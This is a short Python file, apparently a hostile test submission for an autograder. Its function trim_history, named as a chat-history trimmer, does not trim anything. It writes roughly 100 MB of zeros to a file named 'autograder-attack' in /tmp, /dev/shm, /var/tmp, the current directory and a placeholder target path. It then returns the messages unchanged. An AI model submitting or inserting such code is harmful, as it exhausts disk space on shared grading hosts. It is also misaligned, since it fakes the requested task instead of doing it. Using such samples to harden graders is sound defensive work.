"""Writes until the disk is full."""

import os
import tempfile


def trim_history(messages, max_messages=10, head=2):
    for place in ("@target@", "/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            with open(os.path.join(place, "autograder-attack"), "wb") as file:
                for _ in range(100):
                    file.write(bytes(10**6))
        except OSError:
            pass
    try:
        tempfile.TemporaryFile().write(bytes(10**6))
    except OSError:
        pass

    return {"messages": list(messages), "dropped": 0}
